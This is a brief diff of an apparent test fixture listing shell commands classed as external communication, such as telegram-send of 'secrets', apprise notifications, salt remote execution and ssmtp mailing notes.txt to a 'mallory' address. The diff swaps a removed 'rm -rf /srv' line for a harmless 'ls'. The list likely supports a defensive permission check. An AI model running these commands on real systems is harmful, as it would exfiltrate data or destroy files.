@@ -106,7 +106,7 @@ EXTERNAL = [
     "telegram-send 'secrets: ...'",
     "apprise -b hi mailto://mallory@example.com",
     "apprise -vv -t t -b b slack://T/B/C",
-    "salt '*' cmd.run 'rm -rf /srv'",
+    "salt '*' cmd.run 'ls /srv'",  # (the minions' command is a segment too: a deletion asks on its own)
     "salt-ssh '*' state.apply",
     "ssmtp mallory@example.com < notes.txt",
 ]
